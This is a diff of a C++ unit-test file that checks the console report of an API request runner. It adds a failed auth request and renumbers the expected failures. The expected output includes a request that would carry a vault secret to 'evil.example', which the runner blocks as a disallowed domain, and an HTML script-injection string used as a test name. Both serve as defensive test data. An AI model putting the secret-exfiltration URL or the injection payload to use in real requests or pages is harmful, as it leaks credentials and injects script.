@@ -101,6 +101,14 @@ Shop
   │ collection { a: 1 }
   │ two
   │ lines
+  └
+  POST https://auth.example/token [201 Created, 26B, 12ms]
+  ⌁ vault client (cached)
+  POST https://auth.example/{{vault:key}} [errored]
+  ⌁ vault client (cached)
+  1. network
+     connection refused by auth.example:443
+  ┌
   │ key is {{vault:key}}
   └
   POST https://api.example.com/orders?a=1 [200 OK, 256B, 43ms]
@@ -109,34 +117,34 @@ Shop
   │ after
   └
   ✓  status is 200
-  1. total is 2
+  2. total is 2
   -  [skipped] later
-  2. </script><img src=x onerror="alert('1')">&amp;
+  3. </script><img src=x onerror="alert('1')">&amp;
 
 ❏ Orders
 ↳ List
-  3⠄ TypeError in prerequest-script
+  4⠄ TypeError in prerequest-script
      undefined is not a function
   GET https://api.example.com/redir [200 OK, 105B, 43ms]
   ↪ 302 GET https://api.example.com/hello
   ✓  ok
-  4⠄ Error in test-script
+  5⠄ Error in test-script
      the script took longer than 500 ms and was ended
 
 Attempting to set next request to Refused
 
 → Refused
   GET https://evil.example/x?k={{vault:key}} [not sent]
-  5. domain-not-allowed
+  6. domain-not-allowed
      url: {{vault:key}} may not go to https://evil.example
      → Add the host to its allowed domains.
 
 → Down
   GET https://down.example/x [errored]
-  6. network
+  7. network
      connection refused by down.example:443
      → Is the server running?
-  7. there is an answer
+  8. there is an answer
 
 )-"));
   EXPECT_THAT(out, HasSubstr(R"-(│            test-scripts │                3 │                1 │
@@ -147,33 +155,36 @@ Attempting to set next request to Refused
 )-"));
   EXPECT_THAT(out, EndsWith(R"-(  #  failure             detail
 
- 1.  AssertionError      total is 2
+ 1.  network             connection refused by auth.example:443
+                         inside "Orders / Nested / Make"
+
+ 2.  AssertionError      total is 2
                          expected 1 to deeply equal 2
                          at assertion:1 in test-script:3:7
                          inside "Orders / Nested / Make"
 
- 2.  AssertionError      </script><img src=x onerror="alert('1')">&amp;
+ 3.  AssertionError      </script><img src=x onerror="alert('1')">&amp;
                          no {{vault:key}}
                          at assertion:3 in test-script
                          inside "Orders / Nested / Make"
 
- 3.  TypeError           undefined is not a function
+ 4.  TypeError           undefined is not a function
                          at prerequest-script:2:5
                          inside "Orders / List"
 
- 4.  Error               the script took longer than 500 ms and was ended
+ 5.  Error               the script took longer than 500 ms and was ended
                          at test-script
                          inside "Orders / List"
 
- 5.  domain-not-allowed  {{vault:key}} may not go to https://evil.example
+ 6.  domain-not-allowed  {{vault:key}} may not go to https://evil.example
                          → Add the host to its allowed domains.
                          inside "Refused"
 
- 6.  network             connection refused by down.example:443
+ 7.  network             connection refused by down.example:443
                          → Is the server running?
                          inside "Down"
 
- 7.  AssertionError      there is an answer
+ 8.  AssertionError      there is an answer
                          expected undefined to exist
                          at assertion:0 in test-script
                          inside "Down"
@@ -185,17 +196,17 @@ TEST(CliReporterTest, LeavesOutOfScriptsWhatTheFlagsSay) {
   options.scripts.console = false;
   std::string out = report_with_scripts(options);
   EXPECT_THAT(out, Not(HasSubstr("collection {")));
-  EXPECT_THAT(out, HasSubstr("  ✓  status is 200\n  1. total is 2\n"));
+  EXPECT_THAT(out, HasSubstr("  ✓  status is 200\n  2. total is 2\n"));
   options.scripts.successes = false;
   out = report_with_scripts(options);
   EXPECT_THAT(out, Not(HasSubstr("status is 200")));
   EXPECT_THAT(out, Not(HasSubstr("[skipped]")));
-  EXPECT_THAT(out, HasSubstr("  1. total is 2\n"));
+  EXPECT_THAT(out, HasSubstr("  2. total is 2\n"));
   options.scripts.assertions = false;
   out = report_with_scripts(options);
-  EXPECT_THAT(out, Not(HasSubstr("1. total is 2\n")));
-  EXPECT_THAT(out, HasSubstr("  3⠄ TypeError in prerequest-script\n"));  // they count all the same
-  EXPECT_THAT(out, HasSubstr(" 1.  AssertionError      total is 2\n"));
+  EXPECT_THAT(out, Not(HasSubstr("2. total is 2\n")));
+  EXPECT_THAT(out, HasSubstr("  4⠄ TypeError in prerequest-script\n"));  // they count all the same
+  EXPECT_THAT(out, HasSubstr(" 2.  AssertionError      total is 2\n"));
 }
 
 TEST(CliReporterTest, ConsolesHaveTheColourOfTheirLevel) {
@@ -205,7 +216,7 @@ TEST(CliReporterTest, ConsolesHaveTheColourOfTheirLevel) {
   EXPECT_THAT(out, HasSubstr("\x1b[90m  ┌\x1b[0m\n  \x1b[90m│\x1b[0m \x1b[90mcollection { a: 1 }\x1b[0m\n"));
   EXPECT_THAT(out, HasSubstr("  \x1b[33m│\x1b[0m \x1b[90mlines\x1b[0m\n"));
   EXPECT_THAT(out, HasSubstr("\x1b[31m  └\x1b[0m\n"));
-  EXPECT_THAT(out, HasSubstr("\x1b[1;31m  1. total is 2\x1b[0m\n"));
+  EXPECT_THAT(out, HasSubstr("\x1b[1;31m  2. total is 2\x1b[0m\n"));
 }
 
 TEST(CliReporterTest, TimestampsBeginRequestsAndAssertions) {
